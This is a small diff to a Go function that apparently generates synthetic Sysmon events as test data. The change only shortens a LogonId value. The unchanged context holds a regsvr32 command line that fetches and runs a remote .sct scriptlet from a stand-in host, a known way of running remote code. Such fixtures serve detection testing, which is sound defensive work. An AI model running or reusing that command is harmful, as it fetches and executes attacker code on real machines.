@@ -107,7 +107,7 @@ func sysmonEvent(i int, t0 time.Time) *Event {
 			{"OriginalFileName", "REGSVR32.EXE"},
 			{"CommandLine", "regsvr32.exe /s /u /i:http://update.example.com/c/" + strconv.Itoa(i) + ".sct scrobj.dll"},
 			{"CurrentDirectory", `C:\Users\alice\AppData\Local\Temp\`}, {"User", `CORP\alice`},
-			{"LogonGuid", "{365ABB72-63FC-5CD8-0000-0020EE3E0100}"}, {"LogonId", "0x0000000000013eee"},
+			{"LogonGuid", "{365ABB72-63FC-5CD8-0000-0020EE3E0100}"}, {"LogonId", "0x13eee"},
 			{"TerminalSessionId", "1"}, {"IntegrityLevel", "Medium"},
 			{"Hashes", "SHA1=A774A816662FF5B75669AA5BCE751BAB9D0972B8,MD5=432BE6CF7311062633459EEF6B242FB5,SHA256=890C1734ED1EF6B2422A9B21D6205CF91E014ADD8A7F41AA5A294FCF60631A7B,IMPHASH=A2DAD36BD73280726DA578EB659D0583"},
 			{"ParentProcessGuid", "{365ABB72-6693-5CD8-0000-0010AE4C0E00}"}, {"ParentProcessId", ppid},
